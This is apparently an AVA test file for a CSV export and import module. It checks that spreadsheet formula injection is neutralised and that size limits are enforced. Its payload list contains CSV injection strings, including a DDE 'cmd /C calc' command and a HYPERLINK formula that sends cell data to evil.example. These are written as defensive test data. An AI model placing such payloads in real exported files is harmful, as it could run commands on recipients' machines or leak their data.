import test from 'ava';
import { parse } from 'csv-parse/sync';
import { csvRecords } from '../../packages/files/read/csv.ts';
import { outlineOf } from '../../packages/files/read/json.ts';
import { csvStream } from '../../packages/files/write/csv.ts';
import { inBatches, type ExportRow } from '../../packages/files/write/rows.ts';

const columns = [
  { key: 'n', label: 'Number' },
  { key: 'subject', label: 'Subject' },
];

async function* batches(...all: ExportRow[][]): AsyncGenerator<ExportRow[]> {
  yield* all;
}

/** Returns the text after the byte order mark. */
async function written(rows: AsyncIterable<readonly ExportRow[]>, of = columns): Promise<string> {
  const [mark, ...text] = Buffer.concat(await csvStream(of, rows).toArray()).toString('utf8');
  if (mark !== '\ufeff') throw new Error('The file does not begin with a byte order mark');
  return text.join('');
}

const payloads = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://evil.example/?x="&A1;"click")`,
  `${sign}1+1`,
  `${sign}SUM(1,2)\r\nnext`,
  `${sign}"; DROP`,
  sign,
]);

test('60 formula payloads become text with a leading apostrophe', async (t) => {
  t.is(payloads.length, 60);
  const text = await written(batches(payloads.map((subject, n) => ({ n, subject }))));
  const records: string[][] = parse(text);
  t.deepEqual(
    records.slice(1),
    payloads.map((each, n) => [String(n), `'${each}`]),
  );
});

test('headings are escaped too', async (t) => {
  t.is(await written(batches(), [{ key: 'n', label: '=1+1' }]), '"\'=1+1"\r\n');
});

test('plain numbers stay numbers', async (t) => {
  const values = [-5, '-5', '-5.25', 0, 3.5, '-5-', '-5e3', '--5', '-'];
  const records: string[][] = parse(await written(batches(values.map((n) => ({ n })))));
  t.deepEqual(
    records.slice(1).map(([n]) => n),
    ['-5', '-5', '-5.25', '0', '3.5', "'-5-", "'-5e3", "'--5", "'-"],
  );
});

test('the file has a header, CRLF, quotes, and empty cells for null', async (t) => {
  const text = await written(batches([{ n: 1, subject: 'say "hi",\nGröße' }], [], [{ n: null, subject: true }, {}]));
  t.is(text, '"Number","Subject"\r\n"1","say ""hi"",\nGröße"\r\n"","true"\r\n"",""\r\n');
  t.is(await written(batches()), '"Number","Subject"\r\n');
});

test('the next batch is read only when the reader is ready', async (t) => {
  let read = 0;
  async function* endless() {
    for (;;) {
      read++;
      yield Array.from({ length: 500 }, (_, n) => ({ n, subject: 'x'.repeat(200) }));
    }
  }
  const stream = csvStream(columns, endless());
  const reader = stream[Symbol.asyncIterator]();
  await reader.next();
  await new Promise((resolve) => setImmediate(resolve));
  t.true(read <= 3, `${read} batches`);
  await reader.return?.();
  t.true(stream.destroyed);
});

test('an error while reading rows fails the stream', async (t) => {
  async function* broken(): AsyncGenerator<ExportRow[]> {
    yield [{ n: 1 }];
    throw new Error('database gone');
  }
  await t.throwsAsync(written(broken()), { message: 'database gone' });
});

test('single rows are grouped into batches', async (t) => {
  async function* single() {
    yield* [1, 2, 3, 4, 5];
  }
  t.deepEqual(await Array.fromAsync(inBatches(single(), 2)), [[1, 2], [3, 4], [5]]);
});

test('formulas after invisible characters, a separator or a line break are escaped', async (t) => {
  for (const [given, told] of [
    ['\u200b=1+1', "'\u200b=1+1"],
    ['\u00a0@SUM(1)', "'\u00a0@SUM(1)"],
    ['a;=1+1', "a;'=1+1"],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\r\n +1+1', "a\r\n '+1+1"],
    ['a\t=1+1', "a\t'=1+1"],
    ['a\u2028@x', "a\u2028'@x"],
    ['a; b', 'a; b'],
  ] as const) {
    const text = await written(batches([{ n: 1, subject: given }]));
    t.true(text.includes(`"${told}"`), text);
  }
});

async function recordsOf(text: string): Promise<readonly (readonly string[])[]> {
  const all: (readonly string[])[] = [];
  for await (const slice of csvRecords(Buffer.from(text))) all.push(...slice);
  return all;
}

test('lines that end in a bare carriage return are read, without a limit on all their cells together', async (t) => {
  const records = await recordsOf(`a,b,c\r${'1,2,3\r'.repeat(1000)}`);
  t.is(records.length, 1001);
  t.deepEqual(records.at(-1), ['1', '2', '3']);
  t.deepEqual(await recordsOf('a,b\n1,"x\ry"\n'), [
    ['a', 'b'],
    ['1', 'x\ry'],
  ]);
  t.is((await recordsOf('"a\r1",b\r\n1,2\r\n')).length, 2, 'the first end of a line counts, outside quotes');
});

test('blank lines and empty cells are counted during reading, whatever the line endings', async (t) => {
  const lines = { message: 'The file must have at most 100000 lines' };
  const columns = { message: 'The file must have at most 200 columns' };
  const many = 30 * 1024 * 1024;
  for (const end of ['\n', '\r', '\r\n']) {
    await t.throwsAsync(recordsOf(`a,b${end}${end.repeat(many / end.length)}`), lines);
    await t.throwsAsync(recordsOf(`a,b${end}${','.repeat(many)}`), columns);
  }
  await t.throwsAsync(recordsOf(`a,b\n${`${','.repeat(199)}\r`.repeat(1000)}`), columns);
});

test('members and items of a JSON file are counted during parsing, including duplicate names', async (t) => {
  const outline = (text: string) => outlineOf(Buffer.from(text), ['rows']);
  await t.throwsAsync(outline(`{${'"a":1,'.repeat(1_000_000)}"b":1}`), { message: /at most 50 members/ });
  await t.throwsAsync(outline(`[${'0,'.repeat(1_000_000)}0]`), { message: /at most 100000 rows/ });
  await t.throwsAsync(outline(`{"rows":[${'{},'.repeat(1_000_000)}{}]}`), { message: /at most 100000 rows/ });
});
